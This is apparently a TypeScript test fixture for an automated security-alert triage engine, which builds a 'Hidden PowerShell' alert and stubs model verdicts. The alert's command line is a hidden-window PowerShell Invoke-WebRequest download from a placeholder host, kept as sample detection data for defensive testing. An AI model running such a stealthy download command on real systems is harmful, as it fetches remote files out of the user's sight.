import assert from "node:assert/strict";
import type { Alert } from "../core/alert/alert.ts";
import { emptyFields } from "../core/event/event.ts";
import type { DomainEvent, RunState } from "../core/run/run.ts";
import { investigateStep } from "../engine/investigate-step.ts";
import { eventsIn } from "../engine/journal/read-opened.ts";
import { caseRecordOf, type Recorder } from "../engine/recorder.ts";
import type { World } from "../engine/world.ts";
import { nextRunStep } from "../stages/next.ts";
import { alertOf, noonMs, placed } from "./alerts.ts";
import { allowing, emptyAnswers, type Telling, wordTools } from "./told-model.ts";

const command =
  "powershell -NoProfile -WindowStyle Hidden -Command Invoke-WebRequest http://files.example.test/a.txt -OutFile C:\\t\\a.txt";
/** Stands in the command line once. */
export const quote = "-WindowStyle Hidden";

/** One machine, one account, one long command line. */
export const suspicious = (parts: Partial<Alert> = {}): Alert[] => [
  alertOf(1, {
    timeMs: noonMs,
    host: "ws-7.example.test",
    user: "rhea",
    rule: "Hidden PowerShell",
    title: "Hidden PowerShell window",
    severity: "medium",
    dataset: "windows",
    observables: [
      { type: "ip", value: "203.0.113.7", role: "target" },
      { type: "hash", value: "a".repeat(64), role: "file" },
    ],
    fields: Object.assign(emptyFields(), { CommandLine: command }),
    ...parts,
  }),
];

/** Looks at every case of a run. */
export async function investigated(recorder: Recorder, world: World): Promise<RunState> {
  for (;;) {
    const step = nextRunStep(recorder.state);
    if (step.do !== "investigate") return recorder.state;
    await investigateStep(step.caseId, caseRecordOf(recorder), world);
  }
}

/** The only case, at its end. */
export const settledCase = (state: RunState) => {
  const only = state.cases.get("case-1");
  assert.ok(only?.status === "closed" || only?.status === "escalated");
  return only;
};

/** One case in a world of its own: how it ended, and the facts of its record. */
export async function caseWith(world: World, alerts = suspicious()) {
  const recorder = await placed(alerts, world);
  const state = await investigated(recorder, world);
  const facts = (await eventsIn(world.journal)).map((event) => JSON.parse(event) as DomainEvent);
  return { state, facts, settled: settledCase(state) };
}

/** Tools that agree that everything is allowed. */
export const closing = () => wordTools(allowing);
/** What a reader says that finds harm and can point at it. */
export const hostileReading = JSON.stringify({
  intent: "command-execution",
  marks: [{ mark: "hides-itself", span: { from: null, to: null, quote } }],
  entities: [],
});
/** An honest model that adds nothing but what is given. */
export const saying =
  (parts: Partial<typeof emptyAnswers>): Telling =>
  ({ role }) =>
    ({ ...emptyAnswers, ...parts })[role];
